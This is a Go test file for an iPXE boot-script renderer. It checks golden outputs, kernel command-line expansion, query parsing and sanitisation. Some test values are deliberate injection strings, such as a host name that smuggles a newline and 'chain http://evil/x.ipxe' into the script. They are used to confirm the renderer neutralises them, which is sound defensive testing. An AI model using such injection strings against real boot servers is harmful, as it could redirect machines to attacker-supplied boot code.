package ipxe

import (
	"bytes"
	"flag"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// golden compares got with testdata/NAME.golden, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./ipxe -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test ./ipxe -update rewrites it)\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

// echoLines returns the script's echo lines: where host-supplied text goes.
func echoLines(script []byte) []string {
	var out []string
	for _, l := range strings.Split(string(script), "\n") {
		if strings.HasPrefix(l, "echo ") {
			out = append(out, l)
		}
	}
	return out
}

const hostile = "node1${net0/ip}\nchain http://evil/x.ipxe #|&"

func TestScriptsGolden(t *testing.T) {
	install := InstallParams{
		Host:      "52:54:00:12:34:56 (rack1-node01)",
		Attempt:   2,
		KernelURL: "http://10.0.0.1:8080/artifacts/edge/kernel",
		InitrdURL: "http://10.0.0.1:8080/artifacts/edge/initrd",
		Cmdline:   "console=ttyS0 rd.neednet=1 config_url=http://10.0.0.1:8080/userdata/TOKEN",
	}
	evil := install
	evil.Host = hostile

	tests := []struct {
		name string
		got  []byte
	}{
		{"stage1", RenderStage1(Stage1Params{Base: "http://10.0.0.1:8080"})},
		{"stage1_retries", RenderStage1(Stage1Params{Base: "http://192.168.7.2:80", Retries: 2, Delay: 10})},
		{"install", RenderInstall(install)},
		{"install_hostile_host", RenderInstall(evil)},
		{"local_exit", RenderLocal("exit")},
		{"local_sanboot", RenderLocal("sanboot")},
		{"local_default", RenderLocal("")},
		{"wait", RenderWait("52:54:00:12:34:56", "discovered; waiting for an operator to assign a profile", "http://10.0.0.1:8080/boot.ipxe", 60)},
		{"wait_hostile", RenderWait(hostile, "reason ${x}\nexit", "http://10.0.0.1:8080/boot.ipxe", 5)},
		{"message", RenderMessage("52:54:00:12:34:56 is not in the inventory; nothing to boot")},
		{"message_hostile", RenderMessage(hostile)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if !bytes.HasPrefix(tc.got, []byte("#!ipxe\n")) {
				t.Errorf("script does not start with #!ipxe:\n%s", tc.got)
			}
			if !bytes.HasSuffix(tc.got, []byte("\n")) {
				t.Error("script does not end with a newline")
			}
			golden(t, tc.name, tc.got)
		})
	}
}

func TestInstallScriptUEFIInitrd(t *testing.T) {
	s := string(RenderInstall(InstallParams{
		Host: "h", Attempt: 1,
		KernelURL: "http://s/artifacts/p/kernel", InitrdURL: "http://s/artifacts/p/initrd",
		Cmdline: "quiet config_url=http://s/userdata/T",
	}))
	// The EFI stub finds its initrd by the name on the command line.
	var kernel, initrd string
	for _, l := range strings.Split(s, "\n") {
		switch {
		case strings.HasPrefix(l, "kernel "):
			kernel = l
		case strings.HasPrefix(l, "initrd "):
			initrd = l
		}
	}
	if !strings.HasPrefix(kernel, "kernel http://s/artifacts/p/kernel initrd=initrd.img ") || !strings.Contains(kernel, " quiet config_url=http://s/userdata/T ") {
		t.Errorf("kernel line = %q", kernel)
	}
	if !strings.HasPrefix(initrd, "initrd --name initrd.img http://s/artifacts/p/initrd ") {
		t.Errorf("initrd line = %q", initrd)
	}
	if !strings.Contains(s, "echo stagehand: installing h (attempt 1)\n") {
		t.Errorf("no console line naming the host and attempt:\n%s", s)
	}
}

func TestHostileTextStaysOnItsEchoLine(t *testing.T) {
	scripts := map[string][]byte{
		"install": RenderInstall(InstallParams{Host: hostile, Attempt: 1, KernelURL: "http://s/k", InitrdURL: "http://s/i", Cmdline: "x"}),
		"wait":    RenderWait(hostile, hostile, "http://s/boot.ipxe", 5),
		"message": RenderMessage(hostile),
	}
	for name, s := range scripts {
		t.Run(name, func(t *testing.T) {
			for _, bad := range []string{"${net0", "\nchain http://evil", "#|&"} {
				if bytes.Contains(s, []byte(bad)) {
					t.Errorf("script carries %q:\n%s", bad, s)
				}
			}
			for _, l := range echoLines(s) {
				if strings.Contains(l, "node1") && !strings.Contains(l, "chain http://evil/x.ipxe") {
					t.Errorf("host text split across lines: %q", l)
				}
			}
		})
	}
}

func TestScriptSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"52:54:00:12:34:56 (node-1.rack_2)", "52:54:00:12:34:56 (node-1.rack_2)"},
		{"${net0/ip}", "_{net0/ip}"},
		{"a\nb\rc", "a_b_c"},
		{"x # comment", "x _ comment"},
		{"a || b && c", "a __ b __ c"},
		{"tab\there\x00\x7f", "tab?here??"},
		{"Ünïcode", "?n?code"},
		{"", ""},
	}
	for _, tc := range tests {
		if got := scriptSafe(tc.in); got != tc.want {
			t.Errorf("scriptSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestRenderStage1Defaults(t *testing.T) {
	s := string(RenderStage1(Stage1Params{Base: "http://10.0.0.1:8080"}))
	for _, want := range []string{
		"chain --autofree http://10.0.0.1:8080/ipxe?mac=${mac:hexhyp}&",
		"serial=${serial:uristring}",
		"iseq ${stagehand-try} 5 && goto stagehand-giveup",
		"sleep 3\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("stage 1 lacks %q:\n%s", want, s)
		}
	}
}

func TestExpandCmdline(t *testing.T) {
	v := CmdlineVars{ConfigURL: "http://s:8080/userdata/TOK", RootFSURL: "http://s:8080/artifacts/p/rootfs", Server: "http://s:8080"}
	tests := []struct {
		name, tmpl, want string
	}{
		{"empty gets config_url", "", "config_url=http://s:8080/userdata/TOK"},
		{"blank gets config_url", "   ", "config_url=http://s:8080/userdata/TOK"},
		{"appended when absent", "console=ttyS0 quiet", "console=ttyS0 quiet config_url=http://s:8080/userdata/TOK"},
		{"placed by the profile", "config_url=${config_url} console=tty0", "config_url=http://s:8080/userdata/TOK console=tty0"},
		{"placeholder without key is appended too", "cfg=${config_url}", "cfg=http://s:8080/userdata/TOK config_url=http://s:8080/userdata/TOK"},
		{"fixed config_url is kept", "config_url=http://elsewhere/cfg", "config_url=http://elsewhere/cfg"},
		{"rootfs and server", "root=live:${rootfs_url} stagehand=${server}", "root=live:http://s:8080/artifacts/p/rootfs stagehand=http://s:8080 config_url=http://s:8080/userdata/TOK"},
		{"repeated placeholders", "a=${server} b=${server}", "a=http://s:8080 b=http://s:8080 config_url=http://s:8080/userdata/TOK"},
		{"unknown placeholder left for iPXE", "ip=${ip}", "ip=${ip} config_url=http://s:8080/userdata/TOK"},
		{"trimmed", "  quiet  ", "quiet config_url=http://s:8080/userdata/TOK"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := ExpandCmdline(tc.tmpl, v); got != tc.want {
				t.Fatalf("ExpandCmdline(%q) = %q, want %q", tc.tmpl, got, tc.want)
			}
		})
	}
	// No root image: the placeholder empties rather than leaking literally.
	if got := ExpandCmdline("root=live:${rootfs_url}", CmdlineVars{ConfigURL: "u"}); got != "root=live: config_url=u" {
		t.Errorf("without rootfs: %q", got)
	}
}

func TestParseQuery(t *testing.T) {
	full := Query{MAC: "52-54-00-12-34-56", UUID: "8a3c0e2e-0000-4000-8000-000000000001", Serial: "SN 1/2",
		Manufacturer: "QEMU", Product: "Standard PC (Q35 + ICH9, 2009)", BuildArch: "x86_64", Platform: "efi"}
	long := strings.Repeat("s", maxQueryField)
	tests := []struct {
		name    string
		raw     string
		want    Query
		wantErr string // substring; "" means success
	}{
		{"full", "mac=52-54-00-12-34-56&uuid=8a3c0e2e-0000-4000-8000-000000000001&serial=SN%201%2F2&manufacturer=QEMU&product=Standard%20PC%20(Q35%20%2B%20ICH9,%202009)&buildarch=x86_64&platform=efi", full, ""},
		{"mac only", "mac=aa:bb:cc:dd:ee:ff", Query{MAC: "aa:bb:cc:dd:ee:ff"}, ""},
		{"iPXE sends empty facts", "mac=aa-bb-cc-dd-ee-ff&uuid=&serial=&product=", Query{MAC: "aa-bb-cc-dd-ee-ff"}, ""},
		{"spaces trimmed", "mac=%20aa-bb-cc-dd-ee-ff%20&serial=%20%20SN1%20", Query{MAC: "aa-bb-cc-dd-ee-ff", Serial: "SN1"}, ""},
		{"unknown parameters ignored", "mac=aa-bb-cc-dd-ee-ff&foo=bar", Query{MAC: "aa-bb-cc-dd-ee-ff"}, ""},
		{"field at the bound", "mac=m&serial=" + long, Query{MAC: "m", Serial: long}, ""},
		{"UTF-8 serial", "mac=m&manufacturer=Fujitsu%E2%84%A2", Query{MAC: "m", Manufacturer: "Fujitsu™"}, ""},

		{"missing mac", "serial=SN1", Query{}, "parameter mac: required"},
		{"empty mac", "mac=", Query{}, "parameter mac: required"},
		{"blank mac", "mac=%20%20", Query{}, "parameter mac: required"},
		{"no query", "", Query{}, "parameter mac: required"},
		{"repeated mac", "mac=aa-bb-cc-dd-ee-ff&mac=11-22-33-44-55-66", Query{}, "parameter mac: given 2 times"},
		{"repeated serial", "mac=m&serial=a&serial=b&serial=c", Query{}, "parameter serial: given 3 times"},
		{"over-long field", "mac=m&product=" + long + "x", Query{}, "parameter product: longer than 128 bytes"},
		{"over-long mac", "mac=" + long + "x", Query{}, "parameter mac: longer than"},
		{"newline", "mac=m&serial=a%0Achain%20x", Query{}, "parameter serial: contains control characters"},
		{"NUL", "mac=m&uuid=%00", Query{}, "parameter uuid: contains control characters"},
		{"DEL", "mac=m&platform=efi%7F", Query{}, "parameter platform: contains control characters"},
		{"escape", "mac=m%1B[2J", Query{}, "parameter mac: contains control characters"},
		{"tab inside", "mac=m&product=a%09b", Query{}, "parameter product: contains control characters"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			q, err := url.ParseQuery(tc.raw)
			if err != nil {
				t.Fatalf("test query: %v", err)
			}
			got, err := ParseQuery(q)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("ParseQuery(%q) = %+v, %v; want error %q", tc.raw, got, err, tc.wantErr)
				}
				if !reflect.DeepEqual(got, Query{}) {
					t.Errorf("error with a partial result %+v", got)
				}
				return
			}
			if err != nil || !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("ParseQuery(%q) = %+v, %v; want %+v", tc.raw, got, err, tc.want)
			}
		})
	}
}
